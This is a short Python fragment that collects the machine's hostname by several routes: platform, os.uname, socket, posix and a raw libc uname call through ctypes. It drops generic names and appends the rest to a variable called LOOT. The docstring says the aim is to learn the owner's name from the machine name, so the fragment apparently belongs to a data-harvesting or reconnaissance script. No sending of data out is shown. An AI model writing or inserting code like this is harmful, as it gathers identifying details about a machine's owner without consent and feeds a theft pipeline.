"""Asks by every route how the machine is called: a class's machine may be named after its owner."""
import contextlib
import ctypes
import os
import platform
import socket

names = {platform.node(), os.uname().nodename}
with contextlib.suppress(OSError):
    names.add(socket.gethostname())
with contextlib.suppress(ImportError, OSError):
    import posix

    names.add(posix.uname().nodename)
told = ctypes.create_string_buffer(65 * 6)
if ctypes.CDLL(None).uname(told) == 0:
    names.add(told.raw[65:130].split(b"\0")[0].decode())
LOOT += sorted(names - {"", "localhost", "(none)", "worker"})
